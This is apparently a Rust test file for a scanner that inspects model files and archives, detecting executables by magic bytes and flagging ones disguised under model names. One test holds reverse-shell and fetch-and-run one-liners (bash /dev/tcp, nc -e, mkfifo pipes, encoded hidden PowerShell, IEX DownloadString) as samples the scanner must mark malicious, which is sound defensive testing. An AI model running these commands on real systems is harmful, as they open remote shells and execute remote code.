use weighbridge_types::Verdict;

use crate::codec::zip::samples::{Archive, Member};
use crate::core::testing::{inspect_bytes, rules, survives_damage, verdict};

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";

fn pe() -> Vec<u8> {
    let mut out = b"MZ".to_vec();
    out.resize(60, 0);
    out.extend_from_slice(&64u32.to_le_bytes());
    out.extend_from_slice(b"PE\0\0\x64\x86");
    out
}

#[test]
fn programs_and_scripts_are_told_by_content() {
    let mach_o = b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0".as_slice();
    for (name, content, expected) in [
        ("helper", ELF, Some("elf")),
        ("helper", &pe(), Some("pe")),
        ("helper", mach_o, Some("mach-o")),
        ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d", None),
        ("install", b"#!/bin/sh\necho\n", Some("script")),
        ("run.bat", b"@echo hello\r\n", Some("script")),
        ("run.ps1", b"Write-Output hello\r\n", Some("script")),
        ("notes.txt", b"#!not a script", None),
        ("autorun.inf", b"[autorun]\r\nopen=x.exe\r\n", Some("script")),
    ] {
        let outcome = inspect_bytes(name, content);
        let format = outcome.format.filter(|f| ["elf", "pe", "mach-o", "script"].contains(f));
        assert_eq!(format, expected, "{name}");
    }
}

#[test]
fn in_a_folder_they_are_worth_knowing_in_a_model_archive_suspicious() {
    let outcome = inspect_bytes("helper.exe", &pe());
    assert_eq!((verdict(&outcome), rules(&outcome)), (Verdict::Clean, vec!["executable-beside-model"]));
    let nested = Archive::of(&[Member::stored("helper.exe", &pe())]).bytes();
    assert_eq!(verdict(&inspect_bytes("tools.zip", &nested)), Verdict::Clean);
}

#[test]
fn under_a_models_name_and_as_a_module_they_are_suspicious() {
    for (name, rule) in [
        ("model.gguf", "executable-under-model-name"),
        ("model.safetensors", "executable-under-model-name"),
        ("ops.cpython-311-x86_64-linux-gnu.so", "native-module-beside-model"),
        ("libmodel.so", "executable-beside-model"),
    ] {
        assert!(rules(&inspect_bytes(name, ELF)).contains(&rule), "{name}");
    }
}

#[test]
fn reverse_shells_and_hidden_commands_are_attacks() {
    for line in [
        "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
        "nc -e /bin/sh 203.0.113.1 4444",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.1 4444 > /tmp/f",
        "powershell -NoP -W Hidden -Enc SQBFAFgA",
        "echo aWQ= | base64 -d | sh",
        "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')",
    ] {
        let outcome = inspect_bytes("run.sh", format!("#!/bin/sh\n{line}\n").as_bytes());
        assert_eq!(verdict(&outcome), Verdict::Malicious, "{line}");
    }
    for line in [
        "curl -fsSL https://example.invalid/install.sh | sh",
        "python train.py --lr 1e-4",
        "# nc -e /bin/sh",
        "rsync -e ssh a b",
    ] {
        let outcome = inspect_bytes("run.sh", format!("#!/bin/sh\n{line}\n").as_bytes());
        assert_eq!(verdict(&outcome), Verdict::Clean, "{line}");
    }
}

#[test]
fn damage_is_survived() {
    survives_damage("helper", ELF);
    survives_damage("run.sh", b"#!/bin/sh\nnc -e /bin/sh host 1\n");
}
